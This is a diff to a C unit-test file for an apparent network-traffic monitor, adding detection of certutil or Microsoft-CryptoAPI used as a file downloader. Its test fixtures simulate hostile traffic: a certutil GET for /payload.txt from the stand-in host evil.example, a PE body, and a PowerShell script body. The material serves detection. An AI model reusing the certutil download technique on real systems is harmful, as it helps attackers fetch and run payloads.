@@ -45,6 +45,11 @@ struct rec_event {
 	size_t			n_certs, certs_total;
 	char			cert0_serial[SERIAL_HEX_MAX];
 	bool			issuer_checked, issuer_known;
+	bool			has_capi;
+	uint64_t		capi_len;
+	char			capi_sha256[65], capi_magic[16];
+	char			capi_version[CRYPTOAPI_VERSION_MAX];
+	char			ua[64];
 };
 
 struct events {
@@ -89,6 +94,18 @@ emit(void *arg, const struct wire_event *ev)
 	for (i = 0; i < ev->n_anomalies; i++)
 		r->anom[i] = ev->anomalies[i];
 	r->has_ts_req = ev->tsp_req != NULL;
+	if (ev->http != NULL && ev->http->req.present &&
+	    ev->http->req.user_agent != NULL)
+		snprintf(r->ua, sizeof(r->ua), "%s", ev->http->req.user_agent);
+	if ((r->has_capi = ev->cryptoapi_other != NULL)) {
+		r->capi_len = ev->cryptoapi_other->body_len;
+		snprintf(r->capi_sha256, sizeof(r->capi_sha256), "%s",
+		    ev->cryptoapi_other->body_sha256);
+		snprintf(r->capi_magic, sizeof(r->capi_magic), "%s",
+		    ev->cryptoapi_other->body_magic);
+		snprintf(r->capi_version, sizeof(r->capi_version), "%s",
+		    ev->cryptoapi_other->ua_version);
+	}
 	if (ev->tsp_resp != NULL)
 		snprintf(r->ts_serial, sizeof(r->ts_serial), "%s",
 		    ev->tsp_resp->serial);
@@ -446,23 +463,94 @@ test_bad_cert(void)
 	h_done(&h);
 }
 
-/* certutil as a downloader: counted, no event (its own alert later). */
+/*
+ * certutil as a downloader: a "cryptoapi_other" event per 2xx body that is
+ * no PKI object, with the hash of the body (sha256sum of the same bytes),
+ * its magic and the agent's version.  A browser fetching the same, an
+ * error page and a HEAD give none.
+ */
 static void
 test_cryptoapi_other(void)
 {
 	struct harness h;
 	static const char req[] = "GET /payload.txt HTTP/1.1\r\n"
 	    "User-Agent: CertUtil URL Agent\r\nHost: evil.example\r\n\r\n"
-	    "GET /x HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n";
+	    "GET /x HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
+	    "GET /s.ps1 HTTP/1.1\r\n"
+	    "User-Agent: Microsoft-CryptoAPI/10.0 (x; y)\r\n\r\n"
+	    "GET /gone.crl.bak HTTP/1.1\r\nUser-Agent: Microsoft-CryptoAPI/6.1"
+	    "\r\n\r\n"
+	    "HEAD /s.ps1 HTTP/1.1\r\nUser-Agent: Microsoft-CryptoAPI/10.0\r\n\r\n"
+	    "GET /z HTTP/1.1\r\nUser-Agent: Microsoft-CryptoAPI/\r\n\r\n";
 	static const char resp[] = "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n"
-	    "\r\nMZ\x90\x00HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi";
+	    "\r\nMZ\x90\x00HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi"
+	    "HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n"
+	    "Write-Output pwned\r\n"
+	    "HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\n\r\n<h1>x</h1"
+	    "HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n"
+	    "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x1f\x8b\x08\x00";
 
 	h_init(&h);
 	h_feed(&h, 0, (const uint8_t *)req, strlen(req), 0);
-	h_feed(&h, 1, (const uint8_t *)resp, sizeof(resp) - 1, 0);
-	CHECK_INT(h.evs.n, 0);
-	CHECK_INT(stats_get(&h.st, "obj_other_cryptoapi"), 1);
+	h_feed(&h, 1, (const uint8_t *)resp, sizeof(resp) - 1, 7);
+	CHECK_INT(h.evs.n, 3);
+	CHECK_INT(h.evs.e[0].type, WE_CRYPTOAPI_OTHER);
+	CHECK_STR(wire_event_type_name(h.evs.e[0].type), "cryptoapi_other");
+	CHECK_STR(h.evs.e[0].uri, "/payload.txt");
+	CHECK(h.evs.e[0].has_capi);
+	CHECK_INT(h.evs.e[0].capi_len, 4);
+	CHECK_STR(h.evs.e[0].capi_sha256, "9f2981a7cc4d40a2a409dc895de64253acd8"
+	    "19d7c0011c8e80b86fe899464e31");
+	CHECK_STR(h.evs.e[0].capi_magic, "pe");
+	CHECK_STR(h.evs.e[0].capi_version, "certutil");
+	CHECK_INT(h.evs.e[0].n_anom, 0);
+	CHECK_STR(h.evs.e[1].uri, "/s.ps1");
+	CHECK_INT(h.evs.e[1].capi_len, 20);
+	CHECK_STR(h.evs.e[1].capi_sha256, "343265ee6c697b92dca61d218dc7ebef3b81"
+	    "66b518223c74b067a3465b174038");
+	CHECK_STR(h.evs.e[1].capi_magic, "script/text");
+	CHECK_STR(h.evs.e[1].capi_version, "10.0");
+	CHECK_STR(h.evs.e[1].ua, "Microsoft-CryptoAPI/10.0 (x; y)");
+	CHECK_STR(h.evs.e[2].uri, "/z");
+	CHECK_STR(h.evs.e[2].capi_sha256, "fd72d30440b0bae1b1c6db6c8ad807f238ef"
+	    "3ca613aa7e8d5329e1e8ddf7da72");
+	CHECK_STR(h.evs.e[2].capi_magic, "gzip");
+	CHECK_STR(h.evs.e[2].capi_version, "");
+	/* the 404 page is counted with the others, and why it gave nothing */
+	CHECK_INT(stats_get(&h.st, "obj_other_cryptoapi"), 4);
+	CHECK_INT(stats_get(&h.st, "cryptoapi_other_not_delivered"), 1);
 	h_done(&h);
+}
+
+/* A body a cap cut: its length and magic, no hash, the anomaly says why. */
+static void
+test_cryptoapi_other_cut(void)
+{
+	struct harness h;
+	static const char req[] = "GET /big.exe HTTP/1.1\r\n"
+	    "User-Agent: Microsoft-CryptoAPI/10.0\r\n\r\n";
+	uint8_t body[3000], *resp;
+	size_t rl;
+
+	memset(body, 0, sizeof(body));
+	memcpy(body, "MZ", 2);
+	resp = message("HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n", body,
+	    sizeof(body), &rl);
+	h_init(&h);
+	h.cfg.http_max_body = 1024;	/* read by app_new below */
+	app_free(h.a);
+	h.a = app_new(&h.cfg, &h.st, &h.sink);
+	h_feed(&h, 0, (const uint8_t *)req, strlen(req), 0);
+	h_feed(&h, 1, resp, rl, 0);
+	CHECK_INT(h.evs.n, 1);
+	CHECK_INT(h.evs.e[0].type, WE_CRYPTOAPI_OTHER);
+	CHECK_INT(h.evs.e[0].capi_len, 3000);
+	CHECK_STR(h.evs.e[0].capi_sha256, "");
+	CHECK_STR(h.evs.e[0].capi_magic, "pe");
+	CHECK_INT(h.evs.e[0].n_anom, 1);
+	CHECK_STR(h.evs.e[0].anom[0], "app_body_truncated");
+	h_done(&h);
+	free(resp);
 }
 
 static void
@@ -516,8 +604,9 @@ test_event_names(void)
 	CHECK_STR(wire_event_type_name(WE_CA_CERT), "ca_cert");
 	CHECK_STR(wire_event_type_name(WE_TIMESTAMP), "timestamp");
 	CHECK_STR(wire_event_type_name(WE_TLS), "tls");
+	CHECK_STR(wire_event_type_name(WE_CRYPTOAPI_OTHER), "cryptoapi_other");
 }
 
 UNIT_MAIN(test_ocsp_post, test_ocsp_get_swapped, test_crl,
     test_crl_truncated, test_cert_ts, test_ts_malformed, test_cryptoapi_other,
-    test_detection, test_event_names, test_bad_cert)
+    test_cryptoapi_other_cut, test_detection, test_event_names, test_bad_cert)
